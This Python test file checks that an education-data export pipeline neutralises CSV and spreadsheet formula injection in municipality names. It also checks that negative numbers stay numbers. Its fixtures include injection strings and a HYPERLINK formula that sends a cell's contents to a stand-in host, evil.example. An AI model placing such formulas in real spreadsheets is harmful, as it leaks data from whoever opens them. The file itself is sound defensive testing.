"""CSV injection: municipality names that a spreadsheet would run as formulas reach the ministry
files as plain text (leading `'`), while negative numbers stay numbers."""

from __future__ import annotations

import csv
import zipfile
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pandas as pd
import pytest
from export_checks import build_support_cube

from pipelines.config import ExportSettings, Settings
from pipelines.export.stage import run_export
from pipelines.export.tables import EFFECTIVENESS, TABLES
from pipelines.warehouse import connect

HOSTILE = {
    "=1+2": "'=1+2",
    "+Rīga": "'+Rīga",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\tTab novads": "'\tTab novads",
    "\rCR novads": "'\rCR novads",
    "Cēsu novads": "Cēsu novads",  # an ordinary name is unchanged
}
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klikšķiniet")'


def consultation_rows() -> pd.DataFrame:
    """Six pupils in every municipality, two consultations each, all in one project and semester."""
    rows = []
    for m, municipality in enumerate(HOSTILE):
        for pupil in range(6):
            for visit in range(2):
                day = date(2024, 10, 1) + timedelta(days=pupil + 7 * visit)
                rows.append(
                    {
                        "date": day,
                        "school_year": "2024/2025",
                        "semester": 1,
                        "pupil_id": f"p{m}-{pupil}",
                        "school_id": f"90000000{m:02d}",
                        "municipality": municipality,
                        "staff_id": f"s{m}",
                        "staff_role": "teacher",
                        "subject": "mathematics",
                        "minutes": 45.0,
                        "mode": "in_person",
                        "group_size": None,
                        "project_code": "8.3.4.0/16/I/001",
                    }
                )
    return pd.DataFrame(rows)


def effectiveness_rows() -> pd.DataFrame:
    columns = [c.name for c in EFFECTIVENESS.columns if c.name not in ("estimate_withheld", "suppressed")]
    values = [30, 90, -0.3, -0.25, -0.55, 0.05, -0.12, 0.04, -4.8, 34, "school_bootstrap", -0.08, -0.3, 0.14]
    values += [0.012, False, 0.9, 0.3, 0.1, -0.2, -0.5, 0.1, False]  # design_warning, decision columns, suppressed
    rows = [
        ["8.3.4.0/16/I/001", HYPERLINK, "mathematics", "2024/2025", *values],
        ["8.3.4.0/16/I/001", "ALL", "mathematics", "2024/2025", *values],
    ]
    return pd.DataFrame(rows, columns=[*columns, "suppressed"])


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("injection")
    con = connect(tmp / "w.duckdb")
    con.register("frame", consultation_rows())
    con.execute("create table core.consultations as select * from frame")
    build_support_cube(con)
    con.register("eff", effectiveness_rows())
    con.execute("create table marts.effectiveness as select * from eff")
    settings = replace(Settings(out_dir=tmp / "out"), export=ExportSettings(k=5))
    run_export(con, settings, "run-injection", excel=True)
    con.close()
    return tmp / "out" / "exports"


def cells(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_every_support_file_writes_formula_names_as_text(exports: Path) -> None:
    for spec in TABLES[:3]:
        municipalities = {row["municipality"] for row in cells(exports / spec.file)}
        assert municipalities == {*HOSTILE.values(), "ALL"}, spec.file


def test_effectiveness_prefixes_text_but_not_negative_numbers(exports: Path) -> None:
    rows = {row["municipality"]: row for row in cells(exports / "effectiveness.csv")}
    assert set(rows) == {"'" + HYPERLINK, "ALL"}
    assert list(rows["'" + HYPERLINK].values()) == [
        "8.3.4.0/16/I/001",
        "'" + HYPERLINK,
        "mathematics",
        "2024/2025",
        "30",
        "90",
        "-0.30",
        "-0.25",
        "-0.55",
        "0.05",
        "-0.12",
        "0.04",
        "-4.80",
        "34",
        "school_bootstrap",
        "-0.08",
        "-0.30",
        "0.14",
        "0.012",
        "false",
        *("0.90", "0.300", "0.100", "-0.20", "-0.50", "0.10"),  # mdes … ci_high_pooled
        "false",
        "false",
    ]


def test_prefixed_files_still_validate_against_the_datapackage(exports: Path) -> None:
    import frictionless

    report = frictionless.validate(str(exports / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def test_workbook_holds_the_names_as_text_cells_not_formulas(exports: Path) -> None:
    with zipfile.ZipFile(exports / "atbalsts.xlsx") as book:
        sheets = [book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
    assert len(sheets) == len(TABLES)
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets)  # no formula cell anywhere
    assert "<t>=1+2</t>" in strings and "<t>@SUM(A1)</t>" in strings
